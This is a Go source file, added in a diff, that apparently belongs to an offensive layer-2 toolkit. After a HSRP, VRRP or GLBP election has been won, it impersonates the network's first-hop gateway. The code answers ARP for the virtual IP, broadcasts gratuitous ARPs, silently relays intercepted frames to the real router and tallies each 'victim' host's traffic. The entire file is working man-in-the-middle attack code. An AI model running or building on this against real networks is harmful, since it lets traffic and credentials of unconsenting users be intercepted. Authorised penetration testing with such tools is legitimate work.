@@ -0,0 +1,214 @@
+// Package gateway impersonates a first hop gateway once a redundancy protocol
+// (HSRP, VRRP, GLBP) election has been won: it answers ARP for the virtual IP with
+// the virtual MAC and relays the frames victims send to that MAC to the real router.
+package gateway
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sort"
+	"sync"
+	"time"
+
+	"github.com/gnpaone/l2star/internal/forward"
+	"github.com/gnpaone/l2star/internal/proto/arp"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+// Config configuration for a virtual gateway
+type Config struct {
+	VIP        net.IP
+	VirtualMAC net.HardwareAddr
+	// OurMAC is the source of the relayed frames
+	OurMAC net.HardwareAddr
+	// Upstream is the real router frames are relayed to, its MAC is looked up with Resolve
+	// on every frame so it can be learned after the gateway starts
+	Upstream net.IP
+	Resolve  func(ip net.IP) (net.HardwareAddr, bool)
+	// Announce is the interval of the gratuitous ARPs for the VIP, 0 sends a single one at start
+	Announce time.Duration
+	StopChan chan struct{}
+}
+
+// Stats counters of a virtual gateway
+type Stats struct {
+	ARPAnswered uint64
+	Relayed     uint64
+	// Unresolved counts frames dropped because the upstream router's MAC is unknown
+	Unresolved uint64
+}
+
+// Victim is a host that sends its traffic to the virtual MAC through us
+type Victim struct {
+	IP        net.IP
+	MAC       net.HardwareAddr
+	Packets   uint64
+	Bytes     uint64
+	FirstSeen time.Time
+	LastSeen  time.Time
+}
+
+// Gateway answers for a virtual IP and MAC. Handle is fed the captured traffic and Due
+// is polled for announcements, as an l2net responder. It is safe for concurrent use.
+type Gateway struct {
+	cfg Config
+	// relay readdresses the victims' frames to the upstream router
+	relay *forward.Forwarder
+
+	mu        sync.Mutex
+	stats     Stats
+	victims   map[string]*Victim
+	announced time.Time
+}
+
+// New creates a virtual gateway from cfg
+func New(cfg Config) (*Gateway, error) {
+	if cfg.VIP.To4() == nil {
+		return nil, fmt.Errorf("virtual IP %v is not an IPv4 address", cfg.VIP)
+	}
+	if len(cfg.VirtualMAC) != 6 || len(cfg.OurMAC) != 6 {
+		return nil, fmt.Errorf("virtual and own MAC are required")
+	}
+	if cfg.Resolve == nil {
+		cfg.Resolve = func(net.IP) (net.HardwareAddr, bool) { return nil, false }
+	}
+	// An empty subnet makes the forwarder send every frame to the upstream router
+	relay, err := forward.New(forward.Config{
+		OurMAC:  cfg.OurMAC,
+		Subnet:  &net.IPNet{IP: net.IPv4zero.To4(), Mask: net.CIDRMask(32, 32)},
+		Gateway: cfg.Upstream,
+		Resolve: cfg.Resolve,
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Gateway{cfg: cfg, relay: relay, victims: make(map[string]*Victim)}, nil
+}
+
+// Filter is the capture filter for the traffic the gateway handles
+func (g *Gateway) Filter() string {
+	return fmt.Sprintf("arp or ether dst %s", g.cfg.VirtualMAC)
+}
+
+// Handle answers ARP requests for the VIP and returns the IPv4 frames sent to the virtual MAC readdressed to the upstream router
+func (g *Gateway) Handle(packet gopacket.Packet) [][]byte {
+	eth, ok := packet.LinkLayer().(*layers.Ethernet)
+	if !ok || bytes.Equal(eth.SrcMAC, g.cfg.OurMAC) || bytes.Equal(eth.SrcMAC, g.cfg.VirtualMAC) {
+		return nil
+	}
+
+	if a, ok := packet.Layer(layers.LayerTypeARP).(*layers.ARP); ok {
+		if a.Operation != layers.ARPRequest || !net.IP(a.DstProtAddress).Equal(g.cfg.VIP) {
+			return nil
+		}
+		reply, err := arp.CraftARPReply(g.cfg.VirtualMAC, net.HardwareAddr(a.SourceHwAddress), g.cfg.VIP, net.IP(a.SourceProtAddress))
+		if err != nil {
+			return nil
+		}
+		g.mu.Lock()
+		g.stats.ARPAnswered++
+		g.mu.Unlock()
+		return [][]byte{reply}
+	}
+
+	if !bytes.Equal(eth.DstMAC, g.cfg.VirtualMAC) {
+		return nil
+	}
+	g.count(packet, eth)
+
+	if _, ok := packet.NetworkLayer().(*layers.IPv4); !ok {
+		return nil
+	}
+	frame, ok := g.relay.Rewrite(packet)
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	if !ok {
+		g.stats.Unresolved++
+		return nil
+	}
+	g.stats.Relayed++
+	return [][]byte{frame}
+}
+
+// count records the sender of a frame addressed to the virtual MAC as a victim
+func (g *Gateway) count(packet gopacket.Packet, eth *layers.Ethernet) {
+	var src net.IP
+	switch ip := packet.NetworkLayer().(type) {
+	case *layers.IPv4:
+		src = ip.SrcIP
+	case *layers.IPv6:
+		src = ip.SrcIP
+	}
+	now := packet.Metadata().Timestamp
+	if now.IsZero() {
+		now = time.Now()
+	}
+
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	key := eth.SrcMAC.String()
+	v := g.victims[key]
+	if v == nil {
+		v = &Victim{MAC: append(net.HardwareAddr(nil), eth.SrcMAC...), FirstSeen: now}
+		g.victims[key] = v
+	}
+	if src != nil {
+		v.IP = append(net.IP(nil), src...)
+	}
+	v.Packets++
+	v.Bytes += uint64(len(packet.Data()))
+	v.LastSeen = now
+}
+
+// Due returns the gratuitous ARP announcing the VIP at the virtual MAC when it is due
+func (g *Gateway) Due(now time.Time) [][]byte {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	if !g.announced.IsZero() && (g.cfg.Announce == 0 || now.Sub(g.announced) < g.cfg.Announce) {
+		return nil
+	}
+	g.announced = now
+	pkt, err := arp.CraftARPReply(g.cfg.VirtualMAC, net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, g.cfg.VIP, g.cfg.VIP)
+	if err != nil {
+		return nil
+	}
+	return [][]byte{pkt}
+}
+
+// Stats returns a snapshot of the gateway counters
+func (g *Gateway) Stats() Stats {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	return g.stats
+}
+
+// Victims returns the hosts that switched to us, busiest first
+func (g *Gateway) Victims() []Victim {
+	g.mu.Lock()
+	out := make([]Victim, 0, len(g.victims))
+	for _, v := range g.victims {
+		out = append(out, *v)
+	}
+	g.mu.Unlock()
+
+	sort.Slice(out, func(i, j int) bool {
+		if out[i].Bytes != out[j].Bytes {
+			return out[i].Bytes > out[j].Bytes
+		}
+		return out[i].MAC.String() < out[j].MAC.String()
+	})
+	return out
+}
+
+// Config returns the gateway settings
+func (g *Gateway) Config() Config {
+	return g.cfg
+}
+
+// StopChan returns the channel that stops the gateway
+func (g *Gateway) StopChan() chan struct{} {
+	return g.cfg.StopChan
+}